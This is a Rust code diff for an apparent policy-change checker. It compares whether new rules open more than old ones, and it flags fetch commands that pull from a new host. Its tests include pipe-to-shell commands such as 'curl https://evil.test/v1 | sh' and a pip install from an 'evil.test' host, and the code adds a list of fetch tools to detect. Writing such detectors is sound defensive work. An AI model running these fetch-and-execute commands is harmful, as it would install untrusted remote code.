@@ -8,7 +8,8 @@ use std::borrow::Cow;
 use ipnet::IpNet;
 use rustc_hash::FxHashSet;
 
-use super::subject::digest;
+use super::digest::digest;
+use super::names::Names;
 use crate::model::view::iam;
 use crate::model::view::rule::{WORDS, is_rule};
 use crate::model::{Lookup, Node, Value};
@@ -39,36 +40,52 @@ pub(super) fn is_degree(attribute: &str, node: &Node) -> bool {
 }
 
 /// Whether all that `new` opens is open by `old`. Of maps that are no rules only values that both have are compared.
-pub(super) fn is_within(new: &Node, old: &Node) -> bool {
-    within(new, old, false)
+pub(super) fn is_within(new: &Node, old: &Node, names: &Names<'_>) -> bool {
+    within(new, old, false, names)
 }
 
-fn within(new: &Node, old: &Node, in_rule: bool) -> bool {
+fn within(new: &Node, old: &Node, in_rule: bool, names: &Names<'_>) -> bool {
     let (new, old) = (&*read(new), &*read(old));
     match (&new.value, &old.value) {
-        (Value::Map(_), Value::Map(_)) => maps_within(new, old, in_rule),
+        (Value::Map(_), Value::Map(_)) => maps_within(new, old, in_rule, names),
         (Value::List(items), Value::List(_)) => {
             // Of a long list most is as it was.
-            let known: FxHashSet<u64> = old.items().iter().map(digest).collect();
-            let is_new = |item: &&Node| !known.contains(&digest(item));
-            items.iter().filter(is_new).all(|item| old.items().iter().any(|one| within(item, one, in_rule)))
+            let known: FxHashSet<u64> = old.items().iter().map(|item| digest(item, names)).collect();
+            let is_new = |item: &&Node| !known.contains(&digest(item, names));
+            items.iter().filter(is_new).all(|item| old.items().iter().any(|one| within(item, one, in_rule, names)))
         }
         // One alone stands for a list of one.
-        (Value::List(items), _) => items.iter().all(|item| within(item, old, in_rule)),
-        (_, Value::List(items)) => items.iter().any(|one| within(new, one, in_rule)),
-        (Value::String(new), Value::String(old)) => text_within(new, old),
-        _ => digest(new) == digest(old),
+        (Value::List(items), _) => items.iter().all(|item| within(item, old, in_rule, names)),
+        (_, Value::List(items)) => items.iter().any(|one| within(new, one, in_rule, names)),
+        _ => match (text_of(new, names), text_of(old, names)) {
+            (Some(new), Some(old)) => text_within(&new, &old),
+            _ => digest(new, names) == digest(old, names),
+        },
     }
 }
 
-/// A text that holds a document counts as the document.
+/// A text, or what is known of one: a wildcard stands for the rest too.
+fn text_of<'n>(node: &'n Node, names: &Names<'_>) -> Option<Cow<'n, str>> {
+    match &node.value {
+        Value::String(text) => Some(names.text(text)),
+        Value::Unknown(unknown) => Some(names.unknown(unknown).into()),
+        _ => None,
+    }
+}
+
+/// A text that holds a document counts as the document, though parts of it be unknown.
 pub(super) fn read(node: &Node) -> Cow<'_, Node> {
-    let is_text = matches!(&node.value, Value::String(text) if text.trim_start().starts_with(['{', '[']));
+    let is_document = |text: &str| text.trim_start().starts_with(['{', '[']);
+    let is_text = match &node.value {
+        Value::String(text) => is_document(text),
+        Value::Unknown(unknown) => unknown.template.as_deref().is_some_and(is_document),
+        _ => false,
+    };
     let document = if node.structure.is_some() || is_text { iam::document(node) } else { None };
     document.unwrap_or(Cow::Borrowed(node))
 }
 
-fn maps_within(new: &Node, old: &Node, in_rule: bool) -> bool {
+fn maps_within(new: &Node, old: &Node, in_rule: bool, names: &Names<'_>) -> bool {
     let in_rule = in_rule || is_rule(new) || is_rule(old);
     fn get<'a>(node: &'a Node, key: &str) -> Option<&'a Node> {
         match node.get(key) {
@@ -82,13 +99,17 @@ fn maps_within(new: &Node, old: &Node, in_rule: bool) -> bool {
         return false;
     }
     let is_port = |key: &str| ports.is_some() && matches!(key, "from_port" | "fromPort" | "to_port" | "toPort");
-    let told = |key: &&str| !WORDS.contains(key) && !is_port(key);
+    // What an object of another kind is called says who it is.
+    let is_name = |key: &str| key == "name" && get(new, "kind").is_some();
+    let told = |key: &&str| (!WORDS.contains(key) || is_name(key)) && !is_port(key);
     let is_kept = |key: &str| match (get(new, key), get(old, key), key) {
         (None, _, _) => true,
         (Some(_), None, _) => !in_rule || NARROWING.contains(&key),
-        (Some(now), Some(before), "Condition" | "condition") => digest(&read(now)) == digest(&read(before)),
-        (Some(now), Some(before), "except") => within(before, now, in_rule),
-        (Some(now), Some(before), _) => within(now, before, in_rule),
+        (Some(now), Some(before), "Condition" | "condition") => {
+            digest(&read(now), names) == digest(&read(before), names)
+        }
+        (Some(now), Some(before), "except") => within(before, now, in_rule, names),
+        (Some(now), Some(before), _) => within(now, before, in_rule, names),
     };
     let is_gone = |key: &str| get(old, key).is_some() && get(new, key).is_none() && !GRANTING.contains(&key);
     new.entries().iter().map(|entry| &*entry.key).filter(told).all(is_kept)
@@ -124,16 +145,42 @@ fn ports(rule: &Node) -> Option<(f64, f64)> {
     Some(if (from, to) == (0.0, 0.0) || from < 0.0 { (0.0, 65_535.0) } else { (from, to) })
 }
 
-/// Whether a text names a host that another does not: what is fetched comes from elsewhere.
+/// Programs and instructions that fetch something.
+const FETCHES: [&str; 9] = ["curl", "wget", "pip", "pip3", "git", "npm", "ADD", "iwr", "Invoke-WebRequest"];
+
+/// Ends of names of files, which are no hosts.
+const FILES: [&str; 20] = [
+    "sh", "py", "js", "rb", "rs", "gz", "tgz", "xz", "zip", "tar", "deb", "rpm", "txt", "json", "yaml", "yml", "toml",
+    "pem", "conf", "so",
+];
+
+/// Whether a text that fetches something names a host that another does not: what is fetched comes from elsewhere.
 pub(super) fn names_other_host(new: &str, old: &str) -> bool {
-    fn hosts(text: &str) -> impl Iterator<Item = &str> {
-        text.match_indices("://").map(|(at, mark)| {
-            let rest = &text[at + mark.len()..];
-            let end = rest.find(|char: char| char.is_whitespace() || "/\"'`)|;&<>?#\\".contains(char));
-            &rest[..end.unwrap_or(rest.len())]
-        })
-    }
-    hosts(new).any(|host| hosts(old).all(|other| other != host))
+    let words = |text: &str| {
+        text.split(|char: char| !char.is_ascii_alphanumeric() && char != '-').any(|word| FETCHES.contains(&word))
+    };
+    let before: FxHashSet<&str> = hosts(old).collect();
+    // Who fetched nothing was told for something else.
+    (!before.is_empty() || words(old)) && hosts(new).any(|host| !before.contains(host))
+}
+
+/// The hosts of URLs, with a scheme or without.
+fn hosts(text: &str) -> impl Iterator<Item = &str> {
+    let ends = |char: char| char.is_whitespace() || "\"'`)|;&<>=(\\".contains(char);
+    text.split(ends).filter_map(|word| {
+        let (rest, has_scheme) = word.split_once("://").map_or((word, false), |(_, rest)| (rest, true));
+        let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
+        let host = rest[..end].rsplit('@').next()?;
+        let name = host.split(':').next()?;
+        let last = name.rsplit_once('.').map_or("", |(_, last)| last);
+        let is_label =
+            |label: &str| !label.is_empty() && label.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'-');
+        let is_host = last.len() > 1
+            && last.bytes().all(|byte| byte.is_ascii_alphabetic())
+            && !FILES.contains(&last)
+            && name.split('.').all(is_label);
+        (has_scheme && !host.is_empty() || is_host).then_some(host)
+    })
 }
 
 #[cfg(test)]
@@ -153,5 +200,12 @@ mod tests {
     fn another_version_comes_from_the_same_host() {
         assert!(!names_other_host("curl https://get.acme.test/v2 | sh", "curl https://get.acme.test/v1 | sh"));
         assert!(names_other_host("curl https://evil.test/v1 | sh", "curl https://get.acme.test/v1 | sh"));
+        assert!(names_other_host("curl evil.test/v1 | sh", "curl get.acme.test/v1 | sh"));
+        assert!(names_other_host(
+            "pip install --trusted-host evil.test x",
+            "pip install --trusted-host get.acme.test x"
+        ));
+        assert!(!names_other_host("curl get.acme.test/v2/a.tar.gz -o b.sh", "curl get.acme.test/v1/a.tar.gz"));
+        assert!(!names_other_host("sudo ls && curl https://get.acme.test/v1 -o a", "sudo ls"));
     }
 }
